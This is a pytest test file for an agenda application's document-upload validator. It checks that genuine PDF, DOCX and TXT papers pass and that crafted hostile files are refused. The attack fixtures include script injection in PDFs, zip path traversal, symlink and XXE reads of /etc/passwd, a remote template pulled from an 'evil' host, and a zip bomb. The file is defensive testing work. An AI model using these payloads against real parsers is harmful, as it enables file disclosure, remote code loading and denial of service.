import io
import time
import zipfile

import docx
import pytest

from summit.agenda import files
from summit.errors import Refused
from summit.management.demo.papers import pdf, text

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def word() -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("The Summit,")
    document.save(out)
    return out.getvalue()


def with_member(name: str, content: bytes, *, mode: int = 0, source: bytes | None = None) -> bytes:
    out = io.BytesIO(source if source is not None else word())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        info.external_attr = mode << 16
        archive.writestr(info, content)
    return out.getvalue()


def bare(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


GOOD = {
    "paper.pdf": pdf("Draft", "A/1/L.4", ("One.",)),
    "paper.PDF": pdf("Draft", "A/1/L.4", ("One.",)),
    "paper.docx": word(),
    "paper.txt": text("临时议程", "A/1", ("一",)),
}
TYPES = f'<Types><Override ContentType="{MAIN}"/></Types>'.encode()
ATTACKS = {
    "html called pdf": ("a.pdf", b"<html><script>alert(1)</script>"),
    "pdf header, cut off": ("a.pdf", GOOD["paper.pdf"][:-40]),
    "html before a pdf": ("a.pdf", b"<script>1</script>" + GOOD["paper.pdf"]),
    "pdf with a program": ("a.pdf", GOOD["paper.pdf"].replace(b"/Type /Catalog", b"/OpenAction << /S /JavaScript >>")),
    "something after the pdf": ("a.pdf", GOOD["paper.pdf"] + b"<script>"),
    "zip called docx": ("a.docx", bare(("a.txt", b"hello"))),
    "pdf called docx": ("a.docx", GOOD["paper.pdf"]),
    "docx without text": ("a.docx", bare(("[Content_Types].xml", TYPES))),
    "docx cut off": ("a.docx", GOOD["paper.docx"][:-200]),
    "macros": ("a.docx", with_member("word/vbaProject.bin", b"x")),
    "path outside": ("a.docx", with_member("../../etc/passwd", b"x")),
    "absolute path": ("a.docx", with_member("/etc/passwd", b"x")),
    "windows path": ("a.docx", with_member("..\\evil.exe", b"x")),
    "link inside": ("a.docx", with_member("word/link", b"/etc/passwd", mode=0o120777)),
    "entities": (
        "a.docx",
        with_member("word/extra.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    ),
    "template from elsewhere": (
        "a.docx",
        with_member(
            "word/_rels/settings.xml.rels",
            b'<Relationship Type="http://x/attachedTemplate" Target="https://evil/t.dotm" TargetMode="External"/>',
        ),
    ),
    "bomb": ("a.docx", with_member("word/media/big.bin", b"\0" * (60 * 1024 * 1024))),
    "many members": ("a.docx", bare(*((f"m{i}", b"") for i in range(files.MEMBERS + 1)))),
    "not utf-8": ("a.txt", "Årsrapport".encode("latin-1")),
    "a program called txt": ("a.txt", b"MZ\x00\x01\x02"),
}


@pytest.mark.parametrize("name", GOOD)
def test_real_papers_are_kept(name):
    found = files.look_into(name, GOOD[name])
    assert found.kind == name.rsplit(".")[-1].lower() and found.size == len(GOOD[name]) and len(found.sha256) == 64


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_lying_or_dangerous_file_is_refused_quickly(attack):
    name, content = ATTACKS[attack]
    began = time.monotonic()
    with pytest.raises(Refused) as refused:
        files.look_into(name, content)
    assert refused.value.code == "paper.content"
    assert time.monotonic() - began < 2


@pytest.mark.parametrize("name", ["a.exe", "a", "a.pdf.html", "a.svg", ".pdf.", "a.docm"])
def test_other_endings_are_refused(name):
    with pytest.raises(Refused) as refused:
        files.look_into(name, GOOD["paper.pdf"])
    assert refused.value.code == "paper.ending"


def test_empty_and_too_large_files_are_refused(settings):
    with pytest.raises(Refused) as refused:
        files.look_into("a.pdf", b"")
    assert refused.value.code == "paper.empty"
    settings.UPLOAD_LIMIT = 10
    with pytest.raises(Refused) as refused:
        files.look_into("a.pdf", GOOD["paper.pdf"])
    assert refused.value.code == "paper.size"
